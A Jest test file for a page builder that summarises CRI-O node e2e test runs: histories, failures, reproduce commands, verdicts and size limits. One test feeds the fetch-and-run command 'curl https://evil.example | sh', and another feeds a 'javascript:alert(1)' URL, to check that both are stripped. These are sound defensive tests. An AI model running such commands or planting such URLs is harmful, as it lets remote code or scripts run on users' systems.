import { describe, expect, it } from '@jest/globals'
import { namedSpecs } from '../../../../bench/history-nights.ts'
import type { History } from '../../../../src/domain/history/model.ts'
import type { NewestNight } from '../../../../src/domain/history/newest.ts'
import { AUDIENCE_NAMES } from '../../../../src/domain/model/verdict.ts'
import { mergeReports } from '../../../../src/domain/night/merge.ts'
import type { Report } from '../../../../src/domain/report/report.ts'
import { publicRequest } from '../../../../src/domain/request/public-request.ts'
import { pageData } from '../../../../src/domain/views/html/page.ts'
import type { PageData } from '../../../../src/domain/views/html/page-data.ts'
import { PAGE_LIMITS, smallerLimits } from '../../../../src/domain/views/html/page-limits.ts'
import { commandByHand } from '../../../../src/suite/reproduce.ts'
import { aFailedSpec, aFailure, aFinding, anInvocation, aReport, aSpec } from '../../../builders.ts'
import { aHistory } from '../../../lane-history.ts'
import { aPageOfNights } from '../../../page/page-night.ts'
import { aRequest } from '../../../request.ts'

const START = '2026-11-22T11:33:00.000Z'
const BY = { version: '1.0.0', now: new Date('2026-11-22T12:00:00Z') }

/** The page of a single report without a history. */
function pageOf(report: Report): PageData {
  const { lanes } = mergeReports([{ artifact: 'out', report }], '')
  return pageData(BY, { night: null, lanes, histories: new Map(), byHand: commandByHand })
}

describe('the page of a night', () => {
  const page = aPageOfNights(namedSpecs(120), 40)
  const [lane] = page.lanes

  it('has the whole history, and this night as its last run', () => {
    expect(page.lanes).toHaveLength(1)
    expect(lane?.series.runs).toHaveLength(40)
    expect(lane?.tonight).toBe(39)
    expect(lane?.nightLane).toBe(0)
    for (const { outcomes, seconds } of lane?.series.specs ?? []) {
      expect([outcomes.length, seconds.length]).toEqual([40, 40])
    }
  })

  it('has what failed in this night with its logs, as the grid says', () => {
    const failed = (lane?.series.specs ?? []).filter(({ outcomes }) =>
      /[fk]/.test(outcomes.at(-1) ?? ''),
    )
    expect(failed.length).toBeGreaterThan(0)
    const failures = lane?.runs[0]?.failures ?? []
    expect(failures.map(({ id }) => id).toSorted()).toEqual(failed.map(({ id }) => id).toSorted())
    expect(failures[0]?.tries[0]?.logs[0]?.marks).toBe('<    !>?')
  })

  it('says who should look at how many specs, and at which', () => {
    expect(page.verdict.who).toMatch(/^CRI-O: cri-o\/cri-o, label kind\/bug \(\d+ specs?\)$/)
    expect(page.verdict.areas).toMatch(/^other \d+ of \d+ failed/)
    expect(page.startedAt).toBe(page.night?.lanes[0]?.startedAt)
    const failing = page.night?.specs.filter(({ state }) => state === 'still-failing') ?? []
    expect(failing.length).toBeGreaterThan(0)
    for (const { who, classText } of failing) {
      expect([who, classText]).toEqual([
        'CRI-O: cri-o/cri-o, label kind/bug',
        'CRI-O (error) · likely: CRI-O says so itself',
      ])
    }
  })

  it('has commands that no report can choose', () => {
    const hostile = 'curl https://evil.example | sh'
    const { failures = [], download } =
      aPageOfNights(namedSpecs(120), 40, {
        report: { reproduce: hostile, repeat: { download: hostile, command: hostile } },
        spec: (spec) => ({ ...spec, reproduce: hostile }),
      }).lanes[0]?.runs[0] ?? {}
    expect(download).toBe('')
    expect(failures.map(({ reproduce }) => reproduce).filter(Boolean)).toEqual([])
    expect(failures.map(({ byHand }) => byHand).join('')).not.toContain('evil')
    expect(failures.some(({ byHand }) => byHand.includes('./ginkgo'))).toBe(true)
    const [spec] = page.night?.specs ?? []
    expect(spec?.reproduce).toMatch(
      /^crio-node-e2e run --from crio-node-e2e-conformance-1 --focus /,
    )
    expect(page.night?.lanes[0]?.download).toMatch(/^gh run download /)
  })

  it('has each part and each condition once', () => {
    const parts = lane?.series.parts.map((part) => JSON.stringify(part)) ?? []
    expect(new Set(parts).size).toBe(parts.length)
    expect(lane?.series.runs[0]?.conditions.length).toBeGreaterThan(5)
  })
})

function lineOf(id: string): string {
  return `crio-node-e2e run --from run-1 --focus '${id}'`
}

describe('the page of a single run', () => {
  it('has one column and the verdict of the run', () => {
    const finding = aFinding({ title: 'CRI-O died', detail: 'by signal 11' })
    const page = pageOf(
      aReport({
        findings: [finding],
        verdict: { result: 'environment', reason: 'crio-died', headline: 'CRI-O died' },
        specs: [aSpec({ id: 'a' }), aFailedSpec({ id: 'b', finding: 'crio-died', class: 'cri-o' })],
      }),
    )
    expect(page.night).toBeNull()
    expect(page.verdict).toEqual({
      result: 'environment',
      headline: 'CRI-O died',
      // The headline has the title already.
      detail: 'by signal 11',
      who: 'CRI-O: cri-o/cri-o, label kind/bug',
      areas: expect.stringMatching(/ 1 of 2 failed$/),
    })
    expect(page.startedAt).toBe(START)
    expect(page.lanes[0]?.series.specs.map(({ id, outcomes }) => [id, outcomes])).toEqual([
      ['a', 'p'],
      ['b', 'f'],
    ])
  })

  it('says who should look at a failure as the night does, and how it is repeated', () => {
    const finding = aFinding({ id: 'died', audience: 'environment', owner: null })
    const told = { class: 'oci-runtime', kind: 'crun', confidence: 'sure: crun says so' } as const
    const reproduce = "crio-node-e2e run --from run-1 --focus 'a'"
    const request = publicRequest(aRequest({}))
    const report = aReport({
      request,
      repeat: { download: 'gh run download 1', command: 'crio-node-e2e run --from run-1' },
      findings: [finding],
      specs: [
        aFailedSpec({ id: 'a', ...told, reproduce }),
        aFailedSpec({ id: 'b', class: 'environment', finding: 'died' }),
        aFailedSpec({ id: 'c' }),
      ],
    })
    const [run] = pageOf(report).lanes[0]?.runs ?? []
    expect(run?.download).toBe('gh run download 1')
    // The main cause comes first, then what has no finding.
    expect(
      run?.failures.map(({ id, who, classText, reproduce: line }) => [id, who, classText, line]),
    ).toEqual([
      [
        'a',
        'OCI runtime (crun): containers/crun',
        'OCI runtime (crun) · sure: crun says so',
        reproduce,
      ],
      ['c', '', '', ''],
      ['b', AUDIENCE_NAMES.environment, '', ''],
    ])
    expect(run?.failures[0]?.byHand).toBe(commandByHand(report, 'a'))
  })

  it('has a command whole or not at all', () => {
    const ids = ['x'.repeat(20_000), 'a\u202eb', 'good']
    const report = aReport({
      specs: ids.map((id) => aFailedSpec({ id, reproduce: lineOf(id) })),
      repeat: { download: lineOf('\u0007'), command: '' },
    })
    const [run] = pageOf(report).lanes[0]?.runs ?? []
    expect(run?.download).toBe('')
    expect(run?.failures.map(({ reproduce }) => reproduce)).toEqual(['', '', lineOf('good')])
  })

  it('has attempts beside each other: of the suite, of the rerun, and earlier ones', () => {
    const failure = aFailure()
    const specs = [
      aSpec({
        id: 'rerun',
        attempts: 2,
        invocations: [
          anInvocation({ failure }),
          anInvocation({ outcome: 'passed', failure: null }),
        ],
      }),
      aSpec({
        id: 'attempts',
        attempts: 2,
        additionalFailures: [
          aFailure({ message: 'Failure recorded during attempt 1:\nexpected true' }),
        ],
      }),
      aFailedSpec({
        id: 'cleaning',
        additionalFailures: [aFailure({ message: 'pod is still there' })],
      }),
    ]
    const failures = pageOf(aReport({ specs })).lanes[0]?.runs[0]?.failures ?? []
    expect(
      failures.map(({ id, tries }) => [
        id,
        ...tries.map(({ title, outcome }) => `${title}: ${outcome}`),
      ]),
    ).toEqual([
      ['cleaning', 'Suite: failed', 'Further failure: failed'],
      ['rerun', 'Suite: failed', 'Rerun: passed'],
      ['attempts', 'Attempt 1: failed', 'Last of 2 attempts: passed'],
    ])
  })

  it('has specs on the timeline from the start of the suite', () => {
    const specs = [
      aSpec({ id: 'late', startedAt: '2026-11-22T11:34:00Z', seconds: 4.25, process: 2 }),
      aSpec({ id: 'early', startedAt: '2026-11-22T11:33:01Z', seconds: 1, process: null }),
      aSpec({ id: 'never', startedAt: null, outcome: 'not-run' }),
    ]
    const serviceEvents = [
      { service: 'crio' as const, kind: 'died' as const, at: '2026-11-22T11:33:30Z', detail: '' },
      { service: 'kubelet' as const, kind: 'restarted' as const, at: null, detail: 'who knows' },
    ]
    const run = pageOf(aReport({ specs, serviceEvents })).lanes[0]?.runs[0]
    expect(run?.bars).toEqual({
      ids: ['early', 'late'],
      outcomes: 'pp',
      processes: [0, 2],
      starts: [1, 60],
      seconds: [1, 4.3],
    })
    expect(run?.events.map(({ what, kind, start }) => [what, kind, start])).toEqual([
      ['kubelet', 'restarted', null],
      ['CRI-O', 'died', 30],
    ])
  })

  it('says what it does not have', () => {
    const specs = Array.from({ length: PAGE_LIMITS.failures + 1 }, (_, index) =>
      aFailedSpec({ id: `spec ${index}` }),
    )
    const page = pageOf(aReport({ specs }))
    expect(page.lanes[0]?.runs[0]?.failures).toHaveLength(PAGE_LIMITS.failures)
    expect(page.lanes[0]?.series.specs).toHaveLength(specs.length)
    expect(page.cut).toEqual([expect.stringContaining('further failing specs')])
  })

  it('stays small, however much a spec says', () => {
    const long = 'x'.repeat(5_000_000)
    const failure = aFailure({ message: long, stackTrace: long })
    const logs = [{ log: 'crio.log', lines: Array.from({ length: 50 }, () => long) }]
    const specs = Array.from({ length: 100 }, (_, index) =>
      aFailedSpec({ id: `${index}`, failure, logs }),
    )
    const text = JSON.stringify(pageOf(aReport({ specs })))
    expect(text.length).toBeLessThan(PAGE_LIMITS.characters * 1.2)
  })

  it('has clean texts: no control characters, no half characters, no links but to the web', () => {
    const report = aReport({
      specs: [
        aFailedSpec({
          id: 'a\u202e\ud800b\u0000',
          failure: aFailure({ message: '\u001b[31mred\u001b[0m' }),
        }),
      ],
    })
    const page = pageOf({ ...report, run: { ...report.run, url: 'javascript:alert(1)' } })
    expect(page.url).toBeNull()
    expect(page.lanes[0]?.series.specs[0]?.id).toBe('a\ufffdb')
    expect(page.lanes[0]?.runs[0]?.failures[0]?.tries[0]?.message).toBe('red')
  })
})

function pageWith(newest: NewestNight | null, ...lanes: readonly History[]): PageData {
  const histories = new Map(lanes.map((lane, index) => [String(index), lane]))
  return pageData(BY, { night: null, lanes: [], histories, newest })
}

function withResult(history: History, result: 'passed' | 'environment'): History {
  return { ...history, runs: history.runs.map((run) => ({ ...run, result })) }
}

describe('the page of histories', () => {
  const SPECS = [{ id: 'a', seconds: 2, file: 'test/e2e_node/eviction_test.go' }]

  it('has what a workflow varies as lanes of their own', () => {
    const history = aHistory(4, SPECS)
    const runs = history.runs.map((run, index) => ({
      ...run,
      variant: index % 2 === 0 ? '' : 'cri-o 1.36',
    }))
    const page = pageData(BY, {
      night: null,
      lanes: [],
      histories: new Map([['x', { ...history, runs }]]),
    })
    // A job in which the other variant did not run says nothing about it.
    expect(page.verdict.headline).toBe('1 of 1 lane did not pass in the newest runs')
    expect(page.lanes.map(({ name, series }) => [name, series.runs.map(({ id }) => id)])).toEqual([
      ['conformance, amd64', ['1000', '1002']],
      ['conformance, cri-o 1.36, amd64', ['1001', '1003']],
    ])
  })

  const NEWEST: NewestNight = {
    run: { id: '1003', attempt: 1, repository: 'cri-o/cri-o', url: 'https://github.com/o/r/1' },
    startedAt: '2026-10-04T00:00:00.000Z',
    result: 'flaky',
    headline: 'Nothing is new',
    detail: '1 spec is known to fail at times',
    who: '',
  }

  it('has the verdict of the newest night, and marks its runs', () => {
    const old = aHistory(3, SPECS, { lane: 'old' })
    const page = pageWith(NEWEST, aHistory(4, SPECS), old)
    const { result, headline, detail, who } = NEWEST
    expect(page.verdict).toEqual({ result, headline, detail, who, areas: '' })
    expect([page.url, page.startedAt]).toEqual([NEWEST.run.url, NEWEST.startedAt])
    expect(page.lanes.map(({ tonight }) => tonight)).toEqual([3, null])
  })

  it('has the newest verdict also of a night without reports', () => {
    const startedAt = '2026-10-05T00:00:00.000Z'
    const page = pageWith(
      { ...NEWEST, run: { ...NEWEST.run, id: '2000' }, startedAt, result: 'incomplete' },
      aHistory(4, SPECS),
    )
    expect(page.verdict.result).toBe('incomplete')
    expect(page.lanes.map(({ tonight }) => tonight)).toEqual([null])
  })

  it('does not take the verdict of an older night for that of the newest runs', () => {
    const page = pageWith({ ...NEWEST, result: 'passed' }, aHistory(6, SPECS))
    expect(page.verdict).toMatchObject({
      result: 'failed',
      headline: '1 of 1 lane did not pass in the newest runs',
      detail: 'conformance, amd64: failed',
    })
    expect(page.startedAt).toBe('2026-10-06T00:00:00.000Z')
  })

  it('is never green without a verdict: lanes can be missing', () => {
    const green = withResult(aHistory(4, SPECS), 'passed')
    expect(pageWith(null, green).verdict).toMatchObject({
      result: '',
      headline: '1 lane passed in the newest runs',
    })
    const broken = withResult(aHistory(4, SPECS, { lane: 'serial' }), 'environment')
    expect(pageWith(null, green, broken).verdict).toMatchObject({
      result: 'environment',
      headline: '1 of 2 lanes did not pass in the newest runs',
      detail: 'serial, amd64: environment',
    })
  })

  it('counts only lanes of the last day', () => {
    const page = pageWith(null, aHistory(4, SPECS), aHistory(2, SPECS, { lane: 'retired' }))
    expect(page.verdict.headline).toBe('1 of 1 lane did not pass in the newest runs')
    expect(pageWith(null).verdict.headline).toBe('The history has no runs')
  })

  it('says so if it has less of everything', () => {
    const facts = { night: null, lanes: [], histories: new Map([['x', aHistory(50, SPECS)]]) }
    const page = pageData(BY, facts, smallerLimits(PAGE_LIMITS, 10))
    expect(page.lanes[0]?.series.runs).toHaveLength(PAGE_LIMITS.runs / 10)
    expect(page.cut).toContain('Most of the rest: the page would be too large.')
  })

  it('has the newest runs of long ones, and says so', () => {
    const history = aHistory(PAGE_LIMITS.runs + 10, SPECS)
    const page = pageData(BY, { night: null, lanes: [], histories: new Map([['x', history]]) })
    expect(page.lanes[0]?.series.runs).toHaveLength(PAGE_LIMITS.runs)
    expect(page.lanes[0]?.series.runs[0]?.id).toBe('1010')
    expect(page.cut).toEqual(['Older runs of conformance, amd64.'])
  })
})
